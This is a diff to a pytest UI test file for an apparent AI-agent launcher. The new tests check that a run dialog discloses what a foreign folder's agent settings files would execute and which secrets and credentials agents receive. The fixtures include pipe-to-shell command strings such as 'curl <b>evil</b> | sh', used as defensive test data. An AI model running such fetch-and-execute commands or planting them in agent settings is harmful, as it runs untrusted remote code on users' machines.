@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from dataclasses import replace
+from pathlib import Path
 
 import pytest
 from PySide6.QtCore import Qt
@@ -10,7 +11,14 @@ from PySide6.QtTest import QTest
 
 from quarterdeck.domain.ids import Revision, RunId
 from quarterdeck.domain.refusal import Code, Refusal
-from quarterdeck.engine.door import LaunchPreview, LaunchRequest, TrustAsked
+from quarterdeck.engine.door import (
+    FoundSettings,
+    LaunchPreview,
+    LaunchRequest,
+    PlannedCommand,
+    PlannedGrant,
+    TrustAsked,
+)
 from quarterdeck.ui.dialogs.run_dialog import RunDialog
 from tests.ui import made
 from tests.ui.desk import Desk, desk_over, until
@@ -25,13 +33,18 @@ class ForeignDoor(FakeDoor):
     """Asks for the trust of `content` until that is None."""
 
     content: Revision | None = FIRST
+    settings: tuple[FoundSettings, ...] = ()
+    alternatives: tuple[PlannedCommand, ...] = ()
+    grants: tuple[PlannedGrant, ...] = ()
 
     async def preview(self, request: LaunchRequest) -> LaunchPreview | Refusal:
         found = await super().preview(replace(request, inputs={"repo": "/r"}))
         assert isinstance(found, LaunchPreview)
         assert request.asks_trust
         trust = TrustAsked(self.content, "/elsewhere/<b>new</b>") if self.content is not None else None
-        return LaunchPreview(found.loaded, found.outcome, found.commands, found.content, trust)
+        return replace(
+            found, trust=trust, settings=self.settings, alternatives=self.alternatives, grants=self.grants
+        )
 
     async def launch(self, request: LaunchRequest) -> RunId | Refusal:
         if self.content is not None and request.agreed != self.content:
@@ -112,3 +125,35 @@ async def test_what_was_started_from_there_before_asks_nothing() -> None:
         QTest.keyClick(dialog, Qt.Key.Key_Return, Qt.KeyboardModifier.ControlModifier)
         await until(lambda: door.launches)
         assert (door.launches[0].asks_trust, door.launches[0].agreed) == (True, None)
+
+
+async def test_settings_of_the_folder_are_told_with_what_they_start() -> None:
+    door = foreign()
+    long = FoundSettings(Path("/r/.claude/settings.json"), "h", ("curl <b>evil</b> | sh",), more=3)
+    dark = FoundSettings(Path("/r/.mcp.json"), "h", (), is_readable=False)
+    door.settings = (long, dark, FoundSettings(Path("/r/.env"), "h", ()))
+    async with desk_over(door) as desk:
+        dialog = await ready(desk)
+        told = dialog.commands.text.toPlainText()
+        assert "/r/.claude/settings.json; it starts curl <b>evil</b> | sh; and 3 more" in told
+        assert "/r/.mcp.json; what it starts cannot be told" in told
+        assert "/r/.env" in told
+
+
+async def test_other_agents_and_what_agents_are_given_are_told() -> None:
+    door = foreign()
+    door.alternatives = (
+        PlannedCommand("Write", "b", "command", ("sh", "-c", "curl e | sh"), "/r", "/bin/sh"),
+    )
+    door.grants = tuple(
+        PlannedGrant("<b>a</b>", what, f"the {what}")
+        for what in ("env", "secrets", "pass_env", "credential", "permissions")
+    )
+    async with desk_over(door) as desk:
+        told = (await ready(desk)).commands.text.toPlainText()
+        assert "Write, where you give it to b\nsh -c 'curl e | sh'; in /r" in told
+        assert "Environment of <b>a</b>\nthe env\nSecrets of <b>a</b>\nthe secrets" in told
+        assert (
+            "the pass_env\nSign-in of <b>a</b>\nthe credential\nPermissions of <b>a</b>\nthe permissions"
+            in told
+        )
